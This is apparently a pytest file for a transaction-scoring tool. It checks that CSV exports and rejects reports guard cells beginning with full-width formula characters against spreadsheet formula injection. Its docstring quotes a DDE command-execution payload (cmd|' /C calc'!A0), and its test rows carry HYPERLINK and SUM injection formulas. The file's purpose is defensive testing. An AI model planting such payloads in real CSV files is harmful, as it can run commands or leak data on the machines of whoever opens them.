"""Full-width formula starts (U+FF1D, U+FF0B, U+FF0D, U+FF20) are guarded as `=+-@` are.

Excel in a Japanese (double-byte) environment runs a cell typed or read from a CSV as
`<U+FF1D>cmd|' /C calc'!A0` as the formula `=cmd|...`: it reads full-width symbols as their
ASCII forms (OWASP www-community issue #1088, "CSV Injection can also be caused by
double-byte characters"). Before (hostile probe, 2026-12-07, session 20): `score` wrote a
merchant `<U+FF1D>SUM(1)`, a transaction id `<U+FF0D>X8` or a customer `<U+FF20>X9`
into the day files, `audit_sample.csv`, `cases.csv` and the rejects report as they came.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from shared.columns import SCORED_COLUMNS
from shared.rejects import neutralise
from shared.schemas import FORMULA_START, unguarded
from sink.csvfmt import scored_cells, text
from tests.unit.test_exports_format import _tx

ROOT = Path(__file__).resolve().parents[2]
FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20")  # full-width = + - @
HEADER = ("transaction_id,customer_id,timestamp,amount,country,channel,device,"
          "merchant_category,ip,is_anomaly,anomaly_type")
#: Every input column a scored row carries as text.
TEXT_COLUMNS = ("transaction_id", "customer_id", "country", "channel", "device",
                "merchant_category", "ip", "anomaly_type")


@pytest.mark.parametrize("start", FULL_WIDTH)
def test_a_full_width_formula_start_is_a_formula_start(start: str) -> None:
    assert start in FORMULA_START
    for cell in (start + "SUM(A1)", start + "1", start):
        assert text(cell) == "'" + cell
        assert neutralise(cell) == "'" + cell
        assert unguarded("'" + cell) == cell


@pytest.mark.parametrize("cell", ["\uff21\uff22", "a\uff1db", "\u30fc1", "\u2212" + "1",
                                  "\uff07\uff1d", "'\uff21"])
def test_other_full_width_text_is_left_alone(cell: str) -> None:
    """Full-width letters, a full-width equals sign not first, the katakana long vowel mark
    U+30FC and the minus sign U+2212 (not among the four), a full-width apostrophe."""
    assert text(cell) == neutralise(cell) == unguarded(cell) == cell


@pytest.mark.parametrize("start", FULL_WIDTH)
def test_each_scored_text_cell_is_guarded(start: str) -> None:
    values = {c: f"{start}{c}" for c in TEXT_COLUMNS}
    cells = dict(zip(SCORED_COLUMNS, scored_cells(_tx(**values)), strict=True))
    assert {c: cells[c] for c in TEXT_COLUMNS} == {c: "'" + v for c, v in values.items()}


def _rows() -> str:
    """One good row per (start, text column) holding `<start>HYPERLINK(...)` there, and one
    bad row (amount `x`) per start with it in its merchant."""
    lines = [HEADER]
    n = 0
    for start in FULL_WIDTH:
        for column in TEXT_COLUMNS:
            n += 1
            row = {"transaction_id": f"t{n}", "customer_id": f"c{n % 3}",
                   "timestamp": f"2025-01-01 {n // 4:02d}:{n % 4 * 10:02d}:00",
                   "amount": "12.5", "country": "CH", "channel": "app", "device": "pc",
                   "merchant_category": "food", "ip": "10.0.0.1", "is_anomaly": "False",
                   "anomaly_type": "normal"}
            row[column] = f'{start}HYPERLINK("http://x/"&{column})'
            lines.append(",".join('"' + v.replace('"', '""') + '"' for v in row.values()))
        n += 1
        lines.append(f"b{n},c1,2025-01-01 23:00:00,x,CH,app,pc,{start}SUM(A1),,False,normal")
    return "\n".join(lines) + "\n"


def test_score_exports_and_rejects_guard_full_width_formula_starts(tmp_path: Path) -> None:
    """`score` over rows holding a full-width formula start in each text column: every
    exported cell and every rejects report cell starting with one has the `'` guard, and
    the day files give each row's text back, guard removed, exactly as it was read."""
    (tmp_path / "in.csv").write_text(_rows(), encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "AUDITSTREAM_CORE": "python",
           "EXPORTS_SAMPLE_KEY": "k"}
    done = subprocess.run(
        [sys.executable, "-m", "auditstream", "score", "in.csv", "--out", "out"],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 1, done.stderr[-800:]  # the four bad rows rejected
    sent = {r["transaction_id"]: r for r in csv.DictReader((tmp_path / "in.csv").open())}
    got: dict[str, dict[str, str]] = {}
    unsafe: list[tuple[str, str]] = []
    for path in [*sorted((tmp_path / "out").rglob("*.csv")), tmp_path / "in.rejects.csv"]:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.DictReader(fh):
                unsafe += [(path.name, v) for v in row.values() if v[:1] in FULL_WIDTH]
                if path.parent.name == "scored":
                    got[unguarded(row["transaction_id"])] = row
    assert unsafe == []
    assert sorted(got) == sorted(t for t in sent if not t.startswith("b"))
    for tid, row in got.items():
        assert {c: unguarded(row[c]) for c in TEXT_COLUMNS} == {
            c: sent[tid][c] for c in TEXT_COLUMNS}
    rejects = list(csv.DictReader((tmp_path / "in.rejects.csv").open(encoding="utf-8")))
    assert [(r["line"], r["merchant_category"]) for r in rejects] == [
        (str(1 + 9 * (i + 1)), f"'{s}SUM(A1)") for i, s in enumerate(FULL_WIDTH)]
